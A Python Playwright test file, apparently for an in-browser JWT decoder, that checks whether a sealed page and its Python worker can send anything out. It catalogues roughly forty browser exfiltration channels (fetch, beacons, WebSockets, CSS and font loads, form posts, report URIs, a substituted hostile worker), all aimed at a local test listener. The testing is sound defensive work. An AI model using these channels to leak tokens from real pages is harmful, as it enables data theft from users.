"""Once Python has started, nothing leaves the page: an adversary in it and one in the worker try every channel."""

from __future__ import annotations

import contextlib
import gzip
import json
import selectors
import socket
import threading
from pathlib import Path
from typing import TYPE_CHECKING, Final

import pytest
from playwright.sync_api import expect

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Page

SABOTEUR: Final = (Path(__file__).with_name("saboteur.js")).read_bytes()

# Each is the body of a function of `url` (http), `socket` (ws) and `port`; what it throws or rejects with is no matter.
ANYWHERE: Final = {
    "fetch": "return fetch(url, { mode: 'no-cors' });",
    "fetch with a body": "return fetch(url, { mode: 'no-cors', method: 'POST', body: 'token' });",
    "fetch that is kept alive": "return fetch(url, { mode: 'no-cors', keepalive: true });",
    "XMLHttpRequest": "const request = new XMLHttpRequest(); request.open('POST', url); request.send('token');",
    "WebSocket": "new WebSocket(socket);",
    "EventSource": "new EventSource(url);",
    "WebTransport": "return new WebTransport(url.replace('http:', 'https:')).ready;",
    "import of a module": "return import(url);",
    "worker from an address": "new Worker(url);",
    "shared worker": "new SharedWorker(url);",
    "worker inside a worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${url}')`])));",
}
IN_THE_PAGE: Final = {
    "beacon": "navigator.sendBeacon(url, 'token');",
    "image": "new Image().src = url;",
    "image of many sizes": "new Image().srcset = `${url} 2x`;",
    "audio": "new Audio(url).play();",
    "video": "add('video', { src: url }).load();",
    "poster of a video": "add('video', { poster: url });",
    "object": "add('object', { data: url });",
    "embed": "add('embed', { src: url });",
    "frame": "add('iframe', { src: url });",
    "frame with a document": "add('iframe', { srcdoc: `<img src=\"${url}\">` });",
    "script": "add('script', { src: url });",
    "module script": "add('script', { src: url, type: 'module' });",
    "style sheet": "add('link', { rel: 'stylesheet', href: url });",
    "import in a style": "add('style', { textContent: `@import '${url}';` });",
    "background of a style": "document.body.style.backgroundImage = `url(${url})`;",
    "cursor": "document.body.style.cursor = `url(${url}), auto`;",
    "font": "return new FontFace('leak', `url(${url})`).load();",
    "icon": "add('link', { rel: 'icon', href: url });",
    "manifest": "add('link', { rel: 'manifest', href: url });",
    "prefetch": "add('link', { rel: 'prefetch', href: url });",
    "preload": "add('link', { rel: 'preload', href: url, as: 'fetch' });",
    "module preload": "add('link', { rel: 'modulepreload', href: url });",
    "prerender": 'add(\'script\', { type: \'speculationrules\', textContent: `{"prefetch":[{"urls":["${url}"]}]}` });',
    "SVG image": "document.body.append(svg('image', url));",
    "SVG use": "document.body.append(svg('use', `${url}#a`));",
    "form": "add('iframe', { name: 'sink' }); add('form', { action: url, method: 'post', target: 'sink' }).submit();",
    "service worker": "return navigator.serviceWorker.register(url);",
    "ping of a link": "add('a', { href: '#', ping: url }).click();",
    "input image": "add('input', { type: 'image', src: url });",
    "attribution": "add('img', { attributionSrc: url });",
    "report": "add('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${url}` });",
}
TOOLS: Final = """
const add = (name, properties) => document.body.appendChild(Object.assign(document.createElement(name), properties));
const svg = (name, href) => {
  const element = document.createElementNS('http://www.w3.org/2000/svg', name);
  element.setAttribute('href', href);
  return document.createElementNS('http://www.w3.org/2000/svg', 'svg').appendChild(element).parentNode;
};
"""
# What Chromium does not do to another origin, or not without a window, even where nothing forbids it.
NOT_HEARD_ANYWHERE: Final = {
    "SVG use",
    "WebTransport",
    "attribution",
    "icon",
    "manifest",
    "report",
    "service worker",
    "shared worker",
    "worker from an address",
}
PATIENCE: Final = 1_500


def adversary(channels: dict[str, str], tools: str = "") -> str:
    """Return the source of a function of ``http`` and ``ws`` that tries every channel and then settles."""
    attempts = ",".join(f'["{name}", (url, socket) => {{ {body} }}]' for name, body in channels.items())
    return f"""async ({{ http, ws }}) => {{
        {tools}
        const patience = () => new Promise((resolve) => setTimeout(resolve, {PATIENCE}));
        const tries = [{attempts}].map(async ([name, attempt]) => {{
            const path = encodeURIComponent(name);
            try {{ await Promise.race([attempt(http + path, ws + path), patience()]); }} catch {{ /* refused */ }}
        }});
        await Promise.all([...tries, patience()]);
    }}"""


class Listener:
    """Takes whatever connects to a port of this machine and keeps the first line of it."""

    def __init__(self) -> None:
        """Listen."""
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = int(self.socket.getsockname()[1])
        self.heard: list[str] = []
        self._open = True
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def close(self) -> None:
        """Stop."""
        self._open = False
        self._thread.join()
        self.socket.close()

    def _listen(self) -> None:
        with selectors.DefaultSelector() as ready:
            ready.register(self.socket, selectors.EVENT_READ)
            while self._open:
                if ready.select(timeout=0.1):
                    threading.Thread(target=self._take, args=[self.socket.accept()[0]], daemon=True).start()

    def _take(self, connection: socket.socket) -> None:
        connection.settimeout(0.5)
        with connection, contextlib.suppress(OSError):
            first = connection.recv(4096).split(b"\r\n", 1)[0].decode(errors="replace")
            self.heard.append(first or "connected")
            connection.sendall(b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Return a listener on a port of its own."""
    listening = Listener()
    yield listening
    listening.close()


def addresses(listener: Listener) -> dict[str, str]:
    return {"http": f"http://127.0.0.1:{listener.port}/", "ws": f"ws://127.0.0.1:{listener.port}/"}


def opened(page: Page, address: str) -> Page:
    page.goto(address)
    expect(page.locator("html")).to_have_attribute("data-engine", "ready", timeout=60_000)
    return page


def test_without_the_seal_the_adversary_is_heard(
    page: Page, site: str, listener: Listener, provoked: Callable[[str], None]
) -> None:
    """The tests below mean something only if what they try gets through where nothing stops it."""
    provoked("")
    page.goto(f"{site}LICENSE.txt")
    page.evaluate(adversary({**ANYWHERE, **IN_THE_PAGE}, TOOLS), addresses(listener))

    heard = {
        name for name in {**ANYWHERE, **IN_THE_PAGE} for line in listener.heard if name.replace(" ", "%20") in line
    }
    assert [] == sorted({*ANYWHERE, *IN_THE_PAGE} - heard - NOT_HEARD_ANYWHERE)


def test_nothing_gets_out_of_the_sealed_page(
    page: Page, site: str, listener: Listener, provoked: Callable[[str], None]
) -> None:
    provoked("")
    opened(page, site)
    page.evaluate(adversary({**ANYWHERE, **IN_THE_PAGE}, TOOLS), addresses(listener))

    assert [] == listener.heard


def test_nothing_gets_out_of_the_page_as_one_file(
    page: Page, site: str, listener: Listener, provoked: Callable[[str], None]
) -> None:
    provoked("")
    opened(page, f"{site}jwt-decoder.html")
    page.evaluate(adversary({**ANYWHERE, **IN_THE_PAGE}, TOOLS), addresses(listener))

    assert [] == listener.heard


def test_nothing_gets_out_of_the_worker(
    page: Page, site: str, listener: Listener, provoked: Callable[[str], None]
) -> None:
    """What runs where Python runs, a hostile dependency for one, has no network; nor has its replacement."""
    provoked("")
    nothing = json.dumps(json.dumps({"schema": 1, "now": 0, "tokens": [], "keys": [], "notes": []}))
    leak = f"""
        const places = {json.dumps(addresses(listener))};
        const answer = (id) => postMessage({{ kind: "result", id, result: {nothing} }});
        ways.leak = (id) => ({adversary(ANYWHERE)})(places).then(() => answer(id));
    """
    page.route("**/worker-*.js.gz", lambda route: route.fulfill(body=gzip.compress(SABOTEUR + leak.encode())))
    opened(page, site)
    for way in ("leak", "throw", "leak"):
        before = str(page.locator("#report").get_attribute("data-revision"))
        page.locator("#paste").fill(way)
        expect(page.locator("#report")).not_to_have_attribute("data-revision", before, timeout=30_000)

    assert [] == listener.heard


def test_what_no_policy_closes_is_navigation_as_the_documentation_says(
    page: Page, site: str, listener: Listener, provoked: Callable[[str], None]
) -> None:
    provoked("")
    opened(page, site)
    with page.expect_request(addresses(listener)["http"] + "left-open"):
        page.evaluate("(address) => { location.href = address; }", addresses(listener)["http"] + "left-open")

    assert ["GET /left-open HTTP/1.1"] == listener.heard[:1]
